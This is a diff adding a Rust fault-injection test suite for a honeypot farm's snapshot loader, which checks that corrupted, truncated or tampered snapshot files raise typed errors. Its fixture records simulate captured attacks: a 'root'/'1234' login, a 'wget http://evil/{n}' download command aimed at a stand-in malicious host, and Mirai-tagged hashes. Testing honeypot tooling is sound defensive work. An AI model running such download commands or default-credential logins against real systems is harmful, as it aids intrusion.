@@ -1,0 +1,270 @@
+//! Fault-injection suite for the hfstore loader: flip bytes, truncate
+//! sections, plant dangling ids — every corruption must surface as the
+//! right typed [`SnapshotError`], never a panic or a silent mis-read.
+
+use honeyfarm::farm::snapshot::{FORMAT_VERSION, MAGIC, SECTIONS};
+use honeyfarm::farm::{FarmPlan, SessionStore, Snapshot, SnapshotError, SnapshotMeta, TagDb};
+use honeyfarm::geo::Ip4;
+use honeyfarm::hash::Sha256;
+use honeyfarm::honeypot::{EndReason, LoginAttempt, SessionRecord};
+use honeyfarm::proto::creds::Credentials;
+use honeyfarm::proto::Protocol;
+use honeyfarm::shell::CommandRecord;
+use honeyfarm::simclock::SimInstant;
+
+/// Header size: magic + version + section count.
+const HEADER: usize = 8 + 4 + 4;
+/// Per-section frame: id (u32) + len (u64) + sha-256 (32 bytes).
+const FRAME: usize = 4 + 8 + 32;
+
+fn record(n: u64) -> SessionRecord {
+    SessionRecord {
+        honeypot: (n % 221) as u16,
+        protocol: Protocol::Ssh,
+        client_ip: Ip4::new(16, 0, n as u8, 1),
+        client_port: 40_000,
+        start: SimInstant::from_day_and_secs((n % 7) as u32, 60 * n as u32),
+        duration_secs: 30,
+        ended_by: EndReason::ClientClose,
+        ssh_client_version: Some("SSH-2.0-Go".into()),
+        logins: vec![LoginAttempt {
+            creds: Credentials::new("root", "1234"),
+            accepted: true,
+        }],
+        commands: vec![CommandRecord {
+            input: format!("wget http://evil/{n}"),
+            known: true,
+        }],
+        uris: vec![format!("http://evil/{n}")],
+        file_hashes: vec![Sha256::digest(&n.to_le_bytes())],
+        download_hashes: vec![Sha256::digest(&n.to_be_bytes())],
+    }
+}
+
+/// A small but fully-populated snapshot serialized to bytes.
+fn snapshot_bytes() -> Vec<u8> {
+    let mut store = SessionStore::new();
+    let mut tags = TagDb::new();
+    for n in 0..8 {
+        let r = record(n);
+        for h in r.file_hashes.iter().chain(r.download_hashes.iter()) {
+            tags.record(*h, "mirai", "H1");
+        }
+        store.ingest(&r, None);
+    }
+    let snap = Snapshot {
+        meta: SnapshotMeta {
+            seed: 1,
+            scale_volume: 0.001,
+            scale_hashes: 0.03,
+            days: 7,
+            n_clients: 8,
+        },
+        plan: FarmPlan::paper(),
+        sessions: store,
+        tags,
+    };
+    let mut bytes = Vec::new();
+    snap.write_to(&mut bytes).expect("write snapshot");
+    bytes
+}
+
+fn load(bytes: &[u8]) -> Result<Snapshot, SnapshotError> {
+    Snapshot::read_from(&mut &bytes[..])
+}
+
+/// Walk the section frames, returning `(payload_start, payload_len)` per
+/// section in file order.
+fn section_spans(bytes: &[u8]) -> Vec<(usize, usize)> {
+    let mut spans = Vec::new();
+    let mut off = HEADER;
+    for _ in SECTIONS {
+        let len =
+            u64::from_le_bytes(bytes[off + 4..off + 12].try_into().expect("len field")) as usize;
+        spans.push((off + FRAME, len));
+        off += FRAME + len;
+    }
+    assert_eq!(off, bytes.len(), "walk must cover the whole file");
+    spans
+}
+
+/// Re-stamp a section's checksum after deliberately editing its payload
+/// (to reach validation layers deeper than the checksum).
+fn restamp(bytes: &mut [u8], payload_start: usize, payload_len: usize) {
+    let digest = Sha256::digest(&bytes[payload_start..payload_start + payload_len]);
+    bytes[payload_start - 32..payload_start].copy_from_slice(&digest.0);
+}
+
+#[test]
+fn pristine_snapshot_loads() {
+    let bytes = snapshot_bytes();
+    let snap = load(&bytes).expect("pristine snapshot must load");
+    assert_eq!(snap.sessions.len(), 8);
+    // 8 file + 8 download hashes, but n = 0 encodes identically in LE and
+    // BE so its pair collapses to one digest.
+    assert_eq!(snap.tags.len(), 15);
+}
+
+#[test]
+fn bad_magic_is_rejected() {
+    let mut bytes = snapshot_bytes();
+    bytes[0] ^= 0xff;
+    match load(&bytes) {
+        Err(SnapshotError::BadMagic { found }) => assert_ne!(found, MAGIC),
+        other => panic!("expected BadMagic, got {other:?}"),
+    }
+}
+
+#[test]
+fn version_mismatch_is_rejected() {
+    let mut bytes = snapshot_bytes();
+    bytes[8..12].copy_from_slice(&99u32.to_le_bytes());
+    match load(&bytes) {
+        Err(SnapshotError::UnsupportedVersion { found, supported }) => {
+            assert_eq!(found, 99);
+            assert_eq!(supported, FORMAT_VERSION);
+        }
+        other => panic!("expected UnsupportedVersion, got {other:?}"),
+    }
+}
+
+#[test]
+fn flipped_byte_in_every_section_is_caught_by_its_checksum() {
+    let pristine = snapshot_bytes();
+    let spans = section_spans(&pristine);
+    assert_eq!(spans.len(), SECTIONS.len());
+    for (i, &(start, len)) in spans.iter().enumerate() {
+        let (_, name) = SECTIONS[i];
+        assert!(len > 0, "section {name} must have a payload to corrupt");
+        let mut bytes = pristine.clone();
+        bytes[start + len / 2] ^= 0x40;
+        match load(&bytes) {
+            Err(SnapshotError::ChecksumMismatch { section }) => {
+                assert_eq!(section, name, "flip in {name} blamed on {section}");
+            }
+            other => panic!("flip in {name}: expected ChecksumMismatch, got {other:?}"),
+        }
+    }
+}
+
+#[test]
+fn truncation_anywhere_is_a_typed_error() {
+    let pristine = snapshot_bytes();
+    // Cut the file at a spread of boundaries: inside the header, inside
+    // each section frame, inside each payload, and just before the end.
+    let mut cuts = vec![0, 1, HEADER - 1, HEADER, pristine.len() - 1];
+    for &(start, len) in &section_spans(&pristine) {
+        cuts.push(start - FRAME + 2); // mid section-id
+        cuts.push(start - 20); // mid checksum
+        cuts.push(start + len / 2); // mid payload
+    }
+    for cut in cuts {
+        let bytes = &pristine[..cut];
+        match load(bytes) {
+            Err(SnapshotError::Truncated { .. }) => {}
+            other => panic!(
+                "cut at {cut}/{}: expected Truncated, got {other:?}",
+                pristine.len()
+            ),
+        }
+    }
+}
+
+#[test]
+fn unexpected_section_id_is_rejected() {
+    let mut bytes = snapshot_bytes();
+    // Overwrite the first section's id (META = 1) with a stranger.
+    bytes[HEADER..HEADER + 4].copy_from_slice(&42u32.to_le_bytes());
+    match load(&bytes) {
+        Err(SnapshotError::UnexpectedSection { expected, found }) => {
+            assert_eq!(expected, 1);
+            assert_eq!(found, 42);
+        }
+        other => panic!("expected UnexpectedSection, got {other:?}"),
+    }
+}
+
+#[test]
+fn dangling_ssh_version_id_is_rejected() {
+    let mut bytes = snapshot_bytes();
+    let spans = section_spans(&bytes);
+    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
+    let (start, len) = spans[rows_idx];
+    // Rows payload: count (u64) then 48-byte rows; ssh_version_id sits at
+    // row offset 24. Point it far past the pool and re-stamp the checksum
+    // so only the semantic validator can object.
+    let field = start + 8 + 24;
+    bytes[field..field + 4].copy_from_slice(&0x7fff_fff0u32.to_le_bytes());
+    restamp(&mut bytes, start, len);
+    match load(&bytes) {
+        Err(SnapshotError::DanglingId { kind, id }) => {
+            assert_eq!(kind, "ssh_version");
+            assert_eq!(id, 0x7fff_fff0);
+        }
+        other => panic!("expected DanglingId, got {other:?}"),
+    }
+}
+
+#[test]
+fn dangling_list_id_is_rejected() {
+    let mut bytes = snapshot_bytes();
+    let spans = section_spans(&bytes);
+    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
+    let (start, len) = spans[rows_idx];
+    // login_list_id sits at row offset 28.
+    let field = start + 8 + 28;
+    bytes[field..field + 4].copy_from_slice(&0x00ff_ffffu32.to_le_bytes());
+    restamp(&mut bytes, start, len);
+    match load(&bytes) {
+        Err(SnapshotError::DanglingId { kind, .. }) => assert_eq!(kind, "list"),
+        other => panic!("expected DanglingId, got {other:?}"),
+    }
+}
+
+#[test]
+fn corrupt_row_enum_is_rejected() {
+    let mut bytes = snapshot_bytes();
+    let spans = section_spans(&bytes);
+    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
+    let (start, len) = spans[rows_idx];
+    // protocol byte sits at row offset 22.
+    bytes[start + 8 + 22] = 9;
+    restamp(&mut bytes, start, len);
+    match load(&bytes) {
+        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
+        other => panic!("expected Corrupt, got {other:?}"),
+    }
+}
+
+#[test]
+fn lying_interior_length_is_rejected() {
+    let mut bytes = snapshot_bytes();
+    let spans = section_spans(&bytes);
+    let creds_idx = SECTIONS.iter().position(|(_, n)| *n == "creds").unwrap();
+    let (start, len) = spans[creds_idx];
+    // First string's length field (after the u32 pool count): claim more
+    // bytes than the payload holds.
+    bytes[start + 4..start + 8].copy_from_slice(&u32::MAX.to_le_bytes());
+    restamp(&mut bytes, start, len);
+    match load(&bytes) {
+        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "creds"),
+        other => panic!("expected Corrupt, got {other:?}"),
+    }
+}
+
+#[test]
+fn empty_input_is_truncated_header() {
+    match load(&[]) {
+        Err(SnapshotError::Truncated { section }) => assert_eq!(section, "header"),
+        other => panic!("expected Truncated header, got {other:?}"),
+    }
+}
+
+#[test]
+fn garbage_input_is_bad_magic() {
+    let garbage = [0xA5u8; 64];
+    match load(&garbage) {
+        Err(SnapshotError::BadMagic { .. }) => {}
+        other => panic!("expected BadMagic, got {other:?}"),
+    }
+}
